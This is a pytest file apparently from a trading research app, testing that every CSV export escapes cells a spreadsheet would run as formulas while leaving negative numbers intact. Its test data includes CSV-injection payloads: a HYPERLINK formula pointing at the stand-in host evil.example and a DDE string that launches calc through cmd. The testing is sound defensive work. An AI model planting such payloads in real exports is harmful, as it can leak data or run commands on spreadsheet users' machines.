"""Issue 30, exports: every CSV the app writes or offers escapes a text cell a spreadsheet would run as a formula
(``=HYPERLINK(…)`` as a run's name, a symbol, an exit reason) and keeps numbers numbers (a negative P&L too)."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest

from core import views
from core.exports import csv_safe, escape_cell
from core.research import runs
from core.state.store import Store
from tests.security.helpers import DAY, research_page, stop

EVIL = '=HYPERLINK("http://evil.example/?x","n")'
ROOT = Path(__file__).resolve().parents[2]


def rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text)))


def formula_cells(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with = + - @ tab or CR that is not a plain number (or
    percentage: the Research metrics are shown as "-1.25%", which a spreadsheet reads as -0.0125)."""
    return [c for r in table for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not re.fullmatch(r"[+-]?\d[\d,]*(\.\d+)?([eE][+-]?\d+)?%?", c)]  # -1.25% is a number too


@pytest.mark.parametrize("cell", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
def test_a_formula_cell_is_prefixed_and_numbers_are_not(cell):
    assert escape_cell(cell) == "'" + cell
    for keep in (-5.25, -3, "-5.25", "-1,234.50", "+7", "plain", "", None):
        assert escape_cell(keep) == keep
    df = pd.DataFrame({"name": [cell], "pnl": [-5.25]})
    out = csv_safe(df)
    assert out["name"].iloc[0] == "'" + cell and out["pnl"].iloc[0] == -5.25 and out["pnl"].dtype == float


def trade_rows() -> list[dict]:
    return [{"symbol": EVIL, "qty": 1.0, "entry_ts": "2025-03-03T15:00:00+00:00", "entry_price": 100.0,
             "exit_ts": "2025-03-03T15:05:00+00:00", "exit_price": 95.0, "pnl": -5.0, "exit_reason": "@SUM(1)"}]


def test_a_runs_trades_and_equity_csv_come_out_escaped():
    run = {"id": 1, "name": EVIL, "trades": pd.DataFrame(trade_rows()),
           "equity": pd.DataFrame({"ts": pd.to_datetime(["2025-03-03T15:00:00Z"]), "equity": [-12.5]})}
    trades = rows(runs.run_trades_csv(run))
    head, first = trades[0], dict(zip(trades[0], trades[1], strict=True))
    assert first["symbol"] == "'" + EVIL and first["exit_reason"] == "'@SUM(1)"
    assert first["pnl"] == "-5.0" and float(first["pnl"]) == -5.0  # a number, not escaped
    assert not formula_cells(trades), formula_cells(trades)
    assert "symbol" in head
    equity = rows(runs.run_equity_csv(run))
    assert equity[1][-1] == "-12.5" and not formula_cells(equity)


def test_the_trade_history_csv_comes_out_escaped(tmp_path):
    db = tmp_path / "t.db"
    Store(str(db)).close()  # the schema
    con = sqlite3.connect(db)
    t = trade_rows()[0]
    con.execute("INSERT INTO trades(symbol, kind, qty, entry_ts, entry_price, exit_ts, exit_price, pnl, ret, "
                "exit_reason, mae, mfe, fees) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)",
                (EVIL, "-1+1", 1.0, t["entry_ts"], 100.0, t["exit_ts"], 95.0, -5.0, -0.05, "@SUM(1)", -0.06, 0.0,
                 0.0))
    con.commit()
    con.close()
    store = Store(str(db), readonly=True)
    try:
        table = rows(views.trades_csv(store))
    finally:
        store.close()
    got = dict(zip(table[0], table[1], strict=True))
    assert got["symbol"] == "'" + EVIL and got["kind"] == "'-1+1" and got["exit_reason"] == "'@SUM(1)"
    assert float(got["pnl"]) == -5.0 and got["pnl"].startswith("-")
    assert not formula_cells(table)


def test_no_csv_is_written_around_core_exports():
    """Every CSV of the app goes through core.exports (to_csv_bytes / csv_safe): no other .to_csv( call."""
    hits = []
    for folder in ("core", "ui", "pages"):
        for p in (ROOT / folder).rglob("*.py"):
            if p.name == "exports.py" and p.parent.name == "core":
                continue
            hits += [f"{p.relative_to(ROOT)}:{i}" for i, line in enumerate(p.read_text().splitlines(), 1)
                     if ".to_csv(" in line]
    assert not hits, hits


def test_the_saved_runs_table_and_a_runs_tables_download_escaped(tmp_path, monkeypatch):
    """The browser's own CSV download of a table writes each cell as the page sent it: the cells are escaped."""
    store = Store(str(tmp_path / "r.db"))
    try:
        runs.save_run(store, name=EVIL, kind="replay",
                      source={"kind": "synthetic", "seed": 7, "first": DAY.isoformat(), "last": DAY.isoformat(),
                              "sessions": 1},
                      params={"cutoff_delta": 0.0, "mixer_cooldown_s": 180},
                      metrics={"total_return": -0.0125, "trades": 1, "pnl_total": -5.0}, trades=trade_rows(),
                      created_at=datetime(2025, 3, 4, tzinfo=UTC))
    finally:
        store.close()
    at = research_page(monkeypatch, tmp_path, tmp_path / "data")
    try:
        tables = {tuple(d.value.columns): d.value for d in at.dataframe}
        saved = next(v for k, v in tables.items() if "created_at" in k)
        assert saved["name"].iloc[0] == "'" + EVIL
        assert saved["total_return"].iloc[0] == -0.0125  # a number stays a number
        metrics = next(v for k, v in tables.items() if k and k[0] == "metric" and "delta" not in k)
        assert "'" + EVIL in metrics.columns  # the run's name is the column's
        trades = next(v for k, v in tables.items() if "exit_reason" in k)
        assert trades["symbol"].iloc[0] == "'" + EVIL and trades["pnl"].iloc[0] == -5.0
        for table in (saved, metrics, trades):  # as the browser writes it
            assert not formula_cells(rows(table.to_csv(index=False))), table
    finally:
        stop()
